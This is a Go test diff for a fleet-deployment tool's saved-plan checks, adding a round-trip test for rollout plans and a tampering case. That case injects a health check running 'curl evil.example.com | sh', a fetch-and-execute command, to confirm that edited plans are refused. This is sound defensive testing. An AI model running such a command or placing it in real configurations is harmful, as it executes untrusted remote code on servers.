@@ -40,6 +40,10 @@ func TestVerifyRefusesEditedPlans(t *testing.T) {
 		edit func(*File)
 		want string
 	}{
+		{"a health check edited in", func(sp *File) {
+			sp.Plan.Groups = append(sp.Plan.Groups, engine.Group{Label: "web-01", Servers: 1, Rollout: &engine.Rollout{MaxUnavailable: 1,
+				HealthCheck: &engine.HealthCheck{Command: []string{"sh", "-c", "curl evil.example.com | sh"}}}})
+		}, "its order of changes (the server blocks' depends_on and rollouts, with their health checks) does not follow"},
 		{"a delete of the protected server appended", func(sp *File) {
 			db := sp.Read[1]
 			sp.Plan.Changes = append(sp.Plan.Changes, engine.Change{Name: "db-01", Actions: []engine.Action{engine.ActionDelete},
@@ -146,5 +150,48 @@ moved {
 		if a.Changes[i].Reason != b.Changes[i].Reason {
 			t.Errorf("reason %q, want %q", b.Changes[i].Reason, a.Changes[i].Reason)
 		}
+	}
+}
+
+// TestSavedRolloutPlanVerifies: a plan of a fleet with depends_on and a
+// rollout, written and read back, follows from its fleet: the same
+// batches, the same groups and health check.
+func TestSavedRolloutPlanVerifies(t *testing.T) {
+	fleet := et.LoadFleet(t, `
+defaults {
+  plan_id  = 1
+  os_id    = 5
+  location = "us-west"
+}
+server "db" {}
+server "web" {
+  count      = 4
+  name       = "web-${count.index}"
+  plan_id    = 2
+  depends_on = ["db"]
+  rollout {
+    max_unavailable = "50%"
+    pause           = "1m30s"
+    health_check { command = ["./check.sh", "--quick"] }
+  }
+}`)
+	live := []api.Server{et.Live(1, "db"), et.Live(2, "web-0"), et.Live(3, "web-1"), et.Live(4, "web-2", et.Status(api.StatusProvisioning), et.PlanID(2)), et.Live(5, "web-3")}
+	p, diags := engine.BuildPlan(fleet, live, engine.PlanOptions{})
+	if diags.HasErrors() || len(p.Groups) != 2 || p.Group("web").Rollout.Batches != 2 {
+		t.Fatalf("plan %+v, %v", p.Groups, diags)
+	}
+	path := t.TempDir() + "/rolling.plan"
+	if err := Write(path, New(p, fleet, live, Made{Endpoint: "sandbox", At: et.Time})); err != nil {
+		t.Fatal(err)
+	}
+	sp, err := Read(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sp.Verify(); err != nil {
+		t.Errorf("Verify: %v", err)
+	}
+	if !reflect.DeepEqual(sp.Plan.Groups, p.Groups) {
+		t.Errorf("groups read back\n%+v\nwant\n%+v", sp.Plan.Groups, p.Groups)
 	}
 }
